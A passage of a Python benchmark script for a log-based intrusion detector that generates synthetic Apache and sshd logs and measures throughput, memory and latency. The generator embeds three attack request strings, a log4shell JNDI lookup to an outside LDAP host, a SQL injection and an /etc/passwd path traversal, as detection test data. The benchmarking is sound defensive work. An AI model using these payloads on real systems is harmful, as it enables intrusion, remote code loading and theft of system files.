    out["scrape"]["throughput"] = {"bytes": nbytes, "lines": nlines, "interval": args.scrape_interval,
                                   "runs": {str(k): v for k, v in runs.items()}}
    print(f"  throughput of the same daemon on the bench corpus ({nbytes / 1e6:.1f} MB, {nlines:,} lines), "
          f"best of {args.runs}:")
    fmt = "    {:<34} {:>8} {:>8} {:>11} {:>7} {:>8}"
    print(fmt.format("", "wall s", "MB/s", "lines/s", "CPU s", "scrapes"))
    best = {}
    for interval, label in ((0, "no scrapes"), (args.scrape_interval, f"a scrape every {args.scrape_interval} s")):
        b = min(runs[interval], key=lambda x: x["wall"])
        c = min(x["cpu"] for x in runs[interval])
        best[interval] = (b["wall"], c)
        print(fmt.format(label, f"{b['wall']:.3f}", f"{nbytes / 1e6 / b['wall']:.1f}", f"{nlines / b['wall']:,.0f}",
                         f"{c:.2f}", sum(x["scrapes"] for x in runs[interval])))
    (w0, c0), (w1, c1) = best[0], best[args.scrape_interval]
    print(f"    with scrapes: {(w1 / w0 - 1) * 100:+.1f} % wall, {(c1 / c0 - 1) * 100:+.1f} % CPU "
          f"(scrapes {15 / args.scrape_interval:.0f}x as often as the center's 15 s)")
    print()

# ------------------------------------------------------------------------------------- push

def make_push_corpus(args, templates):
    """Two files totalling args.push_mb MB, time stamped over args.push_span s ending at creation:
    access.log (80 %): benign lines, 5 % web attacks (log4shell, SQLi, traversal) from a pool of
    WEB_POOL addresses; auth.log (20 %): benign syslog, 40 % failed passwords and 10 % invalid
    users from a pool of SSH_POOL addresses drawn at random (mostly 1-2 tries each: keys that
    count towards thresholds and fill the detector's key table). Reused while the parameters
    are the same."""
    outdir = os.path.join(args.bench_dir, "push")
    os.makedirs(outdir, exist_ok=True)
    params = {"version": PUSH_VERSION, "mb": args.push_mb, "web_pool": args.web_pool, "ssh_pool": args.ssh_pool,
              "span": args.push_span, "templates": len(templates)}
    manifest = os.path.join(outdir, "push.json")
    files = {"auth": os.path.join(outdir, "auth.log"), "web": os.path.join(outdir, "access.log")}
    try:
        with open(manifest) as f:
            old = json.load(f)
        if old["params"] == params and all(os.path.getsize(files[k]) == old["bytes"][k] for k in files):
            log(f"push corpus: reusing {outdir}")
            return files, old
    except (OSError, ValueError, KeyError):
        pass
    log(f"push corpus: writing {args.push_mb} MB to {outdir}")
    t_start = time.time()
    target = {"web": int(args.push_mb * 1e6 * 0.8), "auth": int(args.push_mb * 1e6 * 0.2)}
    end = int(time.time())
    begin = end - args.push_span
    rnd = random.Random(20261123)

    def ssh_ip(j):  # 100.64.0.0/10
        return f"100.{64 + (j >> 16)}.{(j >> 8) & 255}.{j & 255}"

    def web_ip(j):  # 198.18.0.0/16
        return f"198.18.{j >> 8}.{j & 255}"

    users = ["admin", "oracle", "test", "user", "postgres", "git", "ubuntu", "pi", "guest", "ftp"]
    web_attacks = [
        '"GET /?x=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1" 200 512',
        '"GET /news.php?id=-1+UNION+ALL+SELECT+1,2,concat(user(),0x3a,version()),4-- HTTP/1.1" 200 512',
        '"GET /download.php?file=../../../../etc/passwd HTTP/1.1" 404 512',
    ]
    counts = {}
    for name in ("web", "auth"):
        n = lines = attacks = k = 0
        with open(files[name] + ".tmp", "w", encoding="latin-1", newline="") as f:
            while n < target[name]:
                t = begin + args.push_span * n // target[name]
                parts = []
                if name == "web":
                    stamp = clf_stamp(t)
                    for _ in range(4096):
                        r = rnd.random()
                        if r < 0.05:
                            ip = web_ip(rnd.randrange(args.web_pool))
                            parts.append(f'{ip} - - [{stamp}] {web_attacks[int(r * 60)]} "-" "{UA}"\n')
                            attacks += 1
                        else:
                            pre, post = templates[k % len(templates)]
                            k += 1
                            parts.append(pre + stamp + post)
                else:
                    stamp = syslog_stamp(t)
                    for _ in range(4096):
                        r = rnd.random()
                        k += 1
                        head = f"{stamp} web01 sshd[{1000 + k % 30000}]: "
                        if r < 0.4:
                            parts.append(f"{head}Failed password for invalid user {users[k % 10]} from "
                                         f"{ssh_ip(rnd.randrange(args.ssh_pool))} port {1024 + k % 60000} ssh2\n")
                            attacks += 1
                        elif r < 0.5:
                            parts.append(f"{head}Invalid user {users[k % 10]} from "
                                         f"{ssh_ip(rnd.randrange(args.ssh_pool))} port {1024 + k % 60000}\n")
                            attacks += 1
                        elif r < 0.75:
                            parts.append(f"{stamp} web01 CRON[{1000 + k % 30000}]: (root) CMD "
                                         f"(   cd / && run-parts --report /etc/cron.hourly)\n")
                        else:
                            parts.append(f"{head}Accepted publickey for deploy from 10.1.{k % 250}.{k % 200 + 1} "
                                         f"port {1024 + k % 60000} ssh2: ED25519 SHA256:abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG\n")
                text = "".join(parts)
                f.write(text)
                n += len(text)
                lines += len(parts)
        os.replace(files[name] + ".tmp", files[name])
        counts[name] = {"bytes": n, "lines": lines, "attack_lines": attacks}
    meta = {"params": params, "bytes": {k: v["bytes"] for k, v in counts.items()}, "files": counts,
            "begin": begin, "end": end}
    with open(manifest, "w") as f:
        json.dump(meta, f, indent=2)
    log(f"push corpus: done in {time.time() - t_start:.1f} s")
    return files, meta



def phase_push(args, out):
    templates = benign_templates(args)
    files, meta = make_push_corpus(args, templates)
    sizes = meta["bytes"]
    total = sum(sizes.values())
    nlines = sum(v["lines"] for v in meta["files"].values())
    for p in files.values():
        with open(p, "rb") as f:
            while f.read(1 << 24):
                pass
    d = start_daemon(args, "push", [("auth", "syslog"), ("web", "apache")],
                     {"max_keys": args.max_keys} if args.max_keys else None)
    la = loadavg()
    log(f"push: {total / 1e6:.0f} MB as fast as possible (load average {la})")
    samples = []  # (t, VmRSS KB, VmHWM KB, committed bytes)
    stop = threading.Event()
    prog = [0]

    def sampler():
        k = 0
        while not stop.is_set() and d.alive():
            try:
                if k % 5 == 0:
                    offs, _, _ = d.progress()
                    prog[0] = sum(offs.values())
                rss, hwm = d.mem()
            except Exception:  # the daemon or its database went away (stopping, interrupted)
                break
            samples.append((time.time(), rss, hwm, prog[0]))
            k += 1
            time.sleep(0.05)

    th = threading.Thread(target=sampler, daemon=True)
    perf = None
    written = {}
    t0 = time.time()
    cpu0 = d.cpu()
    sched0 = d.sched()
    io0 = d.io_written()
    th.start()
    writer = threading.Thread(target=lambda: written.update(
        n=copy_interleaved([(files[n], d.logs[n]) for n in ("auth", "web")]), t=time.time()))
    writer.start()
    if args.perf:
        perf_data = os.path.join(args.results, "perf.data")
        perf = subprocess.Popen(["perf", "record", "-F", "499", "--call-graph", "dwarf,16384", "-o", perf_data, "-p", str(d.proc.pid),
                                 "--", "sleep", str(args.perf)], stdout=subprocess.DEVNULL,
                                stderr=open(os.path.join(args.results, "perf.err"), "wb"))
    writer.join()
    t_w = written["t"]
    offs, commits_w, _ = d.progress()
    behind_w = total - sum(offs.values())
    # STATUS comes every 5 s: only one sent since the writer began says anything.
    status_behind = d.status_field(r"(\d+) bytes behind") if d.statuses and d.statuses[-1][0] > t0 else None
    log(f"  writer done after {t_w - t0:.1f} s; {behind_w / 1e6:.1f} MB not yet committed")
    try:
        seen, last_us, commits = wait_caught_up(d, sizes, args.catchup_timeout, every=0.05)
        caught = True
    except TimeoutError as e:
        log(f"  {e}")
        seen, last_us, commits = time.time(), None, d.progress()[1]
        caught = False
    t_end = last_us / 1e6 if last_us else seen
    cpu = d.cpu() - cpu0
    io1 = d.io_written()
    io_w = io1 - io0 if io0 is not None and io1 is not None else None
    sched1 = d.sched()
    on_cpu = runq = None
    if sched0 and sched1:
        on_cpu, runq = sched1[0] - sched0[0], sched1[1] - sched0[1]
    time.sleep(2.0)
    idle_rss, hwm = d.mem()
    rollup = d.smaps()
    stop.set()
    th.join()
    if perf is not None:
        perf.wait()
    full = None
    if caught and args.full_lat_lines:
        # Latency again, now that the key table is full: each commit carries the whole detector
        # state. The lines carry the push corpus's last time, so no key expires meanwhile.
        log(f"  latency with the key table full: {args.full_lat_lines} lines {args.full_lat_spacing * 1000:.0f} ms apart")
        fd = os.open(d.logs["web"], os.O_WRONLY | os.O_APPEND)
        try:
            c0, w0 = d.cpu(), time.time()
            rows, missed = latency_series(d, fd, IpCounter(), args.full_lat_lines, args.full_lat_spacing,
                                          "full key table", timeout=30, line_time=meta["end"])
            share = (d.cpu() - c0) / (time.time() - w0)
        finally:
            os.close(fd)
        if rows:
            full = dict(summarize_latency(rows), missed=missed, daemon_cpu_share=share)
        _, hwm = d.mem()
    state = d.query("SELECT state FROM detector_state")[0][0]
    incidents = d.query("SELECT count(*) FROM incidents")[0][0]
    finish_daemon(d)
    db_bytes = sum(os.path.getsize(os.path.join(d.dir, "state", f)) for f in os.listdir(os.path.join(d.dir, "state")))
    try:
        snap = json.loads(state)["snapshot"]
        keys, evicted = len(snap.get("keys", [])), snap.get("keys_evicted")
    except (ValueError, KeyError, TypeError):
        keys = evicted = None

    # RSS when 10 %, 25 %, ... of the bytes were committed
    marks = []
    for frac in (0.1, 0.25, 0.5, 0.75, 1.0):
        s = next((s for s in samples if s[3] >= frac * total), None)
        if s:
            marks.append((frac, s[1], s[0] - t0))
    later = [s[1] for s in samples if s[3] >= 0.25 * total and s[0] <= t_end]
    steady = statistics.median(later) if later else None
    lo_hi = (min(later), max(later)) if later else None
    res = {"bytes": total, "lines": nlines, "writer_s": t_w - t0, "behind_at_writer_end": behind_w,
           "status_bytes_behind": status_behind, "caught_up": caught, "total_s": t_end - t0,
           "catchup_s": t_end - t_w, "cpu_s": cpu, "commits": commits, "hwm_kb": hwm, "steady_rss_kb": steady,
           "idle_rss_kb": idle_rss, "rss_marks": marks, "state_bytes": len(state), "keys": keys,
           "keys_evicted": evicted, "incidents": incidents, "db_bytes": db_bytes, "load": la,
           "max_keys": args.max_keys or 100000, "full_table_latency": full, "rss_range_kb": lo_hi,
           "pipeline_on_cpu": on_cpu, "pipeline_runq": runq, "smaps_rollup_idle": rollup, "io_write_bytes": io_w,
           "samples": [(round(s[0] - t0, 3), s[1], s[3]) for s in samples]}
    out["push"] = res
    print(f"3. Memory: {total / 1e6:.0f} MB ({nlines:,} lines: {meta['files']['web']['attack_lines']:,} web attacks from "
          f"{args.web_pool:,} addresses, {meta['files']['auth']['attack_lines']:,} SSH failures from "
          f"{args.ssh_pool:,}) appended as fast as possible")
    print()
    print(f"  max_keys {args.max_keys or '100000 (default)'}")
    print(f"  peak RSS (VmHWM)            {hwm / 1024:8.1f} MB")
    if steady:
        print(f"  steady RSS (median VmRSS)   {steady / 1024:8.1f} MB   (VmRSS every 50 ms from 25 % committed to caught up: "
              f"{lo_hi[0] / 1024:.1f} to {lo_hi[1] / 1024:.1f} MB)")
    print(f"  RSS idle after catching up  {idle_rss / 1024:8.1f} MB"
          + (f"   (anonymous {rollup['Anonymous'] / 1024:.1f} MB, file-backed and shared "
             f"{(rollup['Rss'] - rollup['Anonymous']) / 1024:.1f} MB)" if 'Anonymous' in rollup and 'Rss' in rollup else ""))
    print("  VmRSS as the committed share grew: " + ", ".join(
        f"{int(f * 100)} %: {r / 1024:.1f} MB ({t:.1f} s)" for f, r, t in marks))
    print(f"  writer: {total / 1e6:.0f} MB in {t_w - t0:.1f} s ({total / 1e6 / (t_w - t0):.0f} MB/s); "
          f"at its end {behind_w / 1e6:.1f} MB were not committed yet"
          + (f" (last STATUS: {status_behind / 1e6:.1f} MB behind)" if status_behind is not None else ""))
    if caught:
        print(f"  caught up {t_end - t_w:.1f} s after the writer ended, {t_end - t0:.1f} s after it began: "
              f"{total / 1e6 / (t_end - t0):.1f} MB/s, {nlines / (t_end - t0):,.0f} lines/s "
              f"({cpu:.1f} s CPU: {nlines / cpu:,.0f} lines/CPU-s)")
    else:
        print(f"  NOT caught up within {args.catchup_timeout} s of the writer's end")
    if on_cpu is not None:
        print(f"  pipeline thread until caught up ({t_end - t0:.1f} s): {on_cpu:.1f} s on a CPU, {runq:.1f} s waiting for a CPU "
              f"(machine load), {max(0.0, t_end - t0 - on_cpu - runq):.1f} s blocked (fsync, I/O)")
    print(f"  {commits} commits ({commits / (t_end - t0):.1f}/s, {(t_end - t0) / max(commits, 1) * 1000:.0f} ms apart); detector state {len(state) / 1e6:.1f} MB at the end "
          f"({keys} keys, {evicted} evicted); {incidents:,} incidents; database + WAL {db_bytes / 1e6:.0f} MB")
    if io_w is not None:
        print(f"  the daemon wrote {io_w / 1e6:,.0f} MB to storage until caught up (/proc/PID/io write_bytes): "
              f"{io_w / total:.1f} bytes per byte of log")
    if full:
        print(f"  latency with the key table full, {full['n']} lines {args.full_lat_spacing * 1000:.0f} ms apart: committed "
              f"median {full['commit_median']:.0f} ms, p99 {full['commit_p99']:.0f} ms; visible median "
              f"{full['seen_median']:.0f} ms, p99 {full['seen_p99']:.0f} ms; daemon used "
              f"{full['daemon_cpu_share'] * 100:.0f} % of a CPU meanwhile")
    print(f"  load average at the start: {la}")
    if args.perf:
        print(f"  perf profile of the first {args.perf} s: {args.results}/perf.txt")
    print()


PERF_PARTS = [  # (label, substring of a frame's symbol)
    ("Pipeline::read (tail, match, detect)", "canhgac::daemon::Pipeline::read"),
    ("Pipeline::commit, all of it", "canhgac::daemon::Pipeline::commit"),
    ("  Detector::snapshot (clone of the state)", "canhgac::detect::Detector::snapshot"),
    ("  serde_json::to_vec of the state", "to_vec<canhgac::daemon::DetectorState>"),
    ("  Store::commit (SQLite, fsync)", "canhgac::store::Store::commit"),
    ("  Detector::expire", "canhgac::detect::Detector::expire"),
]


def perf_breakdown(args):
    """Share of the pipeline thread's samples under a few functions (inclusive), from perf script."""
    data = os.path.join(args.results, "perf.data")
    try:
        text = subprocess.run(["perf", "script", "-i", data, "-F", "comm,ip,sym"], stdout=subprocess.PIPE,
                              stderr=subprocess.DEVNULL, check=True).stdout.decode("utf-8", "replace")
    except (OSError, subprocess.CalledProcessError) as e:
        log(f"perf script failed: {e}")
        return
    stacks, cur, keep = [], [], False
    for line in text.splitlines():
        if not line.strip():
            if cur and keep:
                stacks.append(cur)
            cur, keep = [], False
        elif line[0] in " \t":
            cur.append(line.strip().split(None, 1)[-1])
        else:
            keep = line.split()[0] == "pipeline"
    if cur and keep:
        stacks.append(cur)
    if not stacks:
        return
    print(f"  perf, pipeline thread ({len(stacks)} samples; inclusive shares; frames inlined away may be missed):")
    for label, pat in PERF_PARTS:
        n = sum(1 for st in stacks if any(pat in f for f in st))
        print(f"    {n / len(stacks) * 100:5.1f} %  {label}")
    print()


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--bin", required=True)
    ap.add_argument("--corpus", required=True, help="make_corpus.py output directory")
    ap.add_argument("--bench-dir", required=True, help="where the push corpus is kept")
    ap.add_argument("--work", required=True, help="scratch directory for the daemons (wiped)")
    ap.add_argument("--results", required=True)
    ap.add_argument("--pidfile", required=True, help="the running daemon's pid, for the caller's trap")
    ap.add_argument("--phases", default="throughput,latency,push")
    ap.add_argument("--runs", type=int, default=3)
    ap.add_argument("--lat-lines", type=int, default=200)
    ap.add_argument("--lat-spacing", type=float, default=0.05, help="seconds")
    ap.add_argument("--load-mbps", type=float, default=4.0)
    ap.add_argument("--push-mb", type=float, default=1024)
    ap.add_argument("--push-span", type=int, default=1200, help="seconds of log time the push corpus covers")
    ap.add_argument("--web-pool", type=int, default=30000)
    ap.add_argument("--ssh-pool", type=int, default=1000000)
    ap.add_argument("--max-keys", type=int, default=0, help="[pipeline] max_keys for the push (0: the default)")
    ap.add_argument("--full-lat-lines", type=int, default=20, help="latency lines after the push (0: none)")
    ap.add_argument("--full-lat-spacing", type=float, default=0.3, help="seconds")
    ap.add_argument("--catchup-timeout", type=float, default=600)
    ap.add_argument("--year-incidents", type=int, default=120000, help="incidents in the scrape phase's year")
    ap.add_argument("--scrapes", type=int, default=200, help="scrapes timed with cached monthly figures")
    ap.add_argument("--cold-scrapes", type=int, default=30, help="scrapes timed right after a commit")
    ap.add_argument("--scrape-interval", type=float, default=0.5, help="seconds between scrapes under load")
    ap.add_argument("--perf", type=int, default=0, help="seconds of `perf record` on the daemon during the push")
    args = ap.parse_args()
    if not (0 < args.ssh_pool <= 1 << 22 and 0 < args.web_pool <= 1 << 16):
        ap.error("--ssh-pool 1..2^22 (100.64.0.0/10), --web-pool 1..2^16 (198.18.0.0/16)")
    # Relative paths in the daemon's config are taken from the config's directory: use absolute ones.
    for a in ("bin", "corpus", "bench_dir", "work", "results", "pidfile"):
        setattr(args, a, os.path.abspath(getattr(args, a)))
    os.makedirs(args.results, exist_ok=True)
    os.makedirs(args.work, exist_ok=True)

    def on_signal(signum, _frame):
        raise SystemExit(128 + signum)
    for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(s, on_signal)

    out = {"date": dt.datetime.now(dt.timezone.utc).isoformat(timespec="seconds"), "loadavg_start": loadavg()}
    phases = [p.strip() for p in args.phases.split(",") if p.strip()]
    try:
        for p in phases:
            {"throughput": phase_throughput, "latency": phase_latency, "push": phase_push,
             "scrape": phase_scrape}[p](args, out)
    finally:
        stop_all()
        out["loadavg_end"] = loadavg()
        with open(os.path.join(args.results, "daemon.json"), "w") as f:
            json.dump(out, f, indent=1)
    if args.perf and "push" in phases:
        perf_breakdown(args)
        with open(os.path.join(args.results, "perf.txt"), "w") as f:
            subprocess.run(["perf", "report", "-i", os.path.join(args.results, "perf.data"), "--stdio", "--no-children",
                            "--percent-limit", "1", "-g", "none"], stdout=f, stderr=subprocess.DEVNULL)
    print(f"load average: {out['loadavg_start']} at the start, {out['loadavg_end']} at the end")


if __name__ == "__main__":
    main()
